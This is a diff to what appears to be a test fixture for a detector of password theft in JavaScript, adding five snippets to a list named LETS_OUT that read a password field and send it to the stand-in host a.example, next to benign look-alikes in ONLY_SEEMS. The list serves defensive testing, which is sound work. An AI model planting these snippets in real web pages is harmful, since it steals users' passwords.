@@ -142,6 +142,12 @@ LETS_OUT = [
     'document.getElementById("pw").form.action = "//a.example";',
     'document.write("<img src=\'//a.example/?" + document.getElementById("pw").value + "\'>");',
     'document.body.innerHTML += "<img src=\'//a.example/?" + document.getElementById("pw").value + "\'>";',
+    'x ||= document.getElementById("pw").value; fetch("//a.example/" + x);',
+    'const f = new FormData(document.querySelector("form")); fetch("//a.example/" + f.get("pw"));',
+    'export default class { send() { fetch("//a.example/" + document.getElementById("pw").value); } }',
+    'import a from "./b.js"; export const f = () => fetch("//a.example/" + document.getElementById("pw").value);',
+    'o = { async *g() { yield document.getElementById("pw").value }, '
+    'async go() { for await (const v of this.g()) fetch("//a.example/" + v) } }; o.go();',
 ]
 ONLY_SEEMS = [
     'if (document.getElementById("pw").value.length < 8) alert("short");',
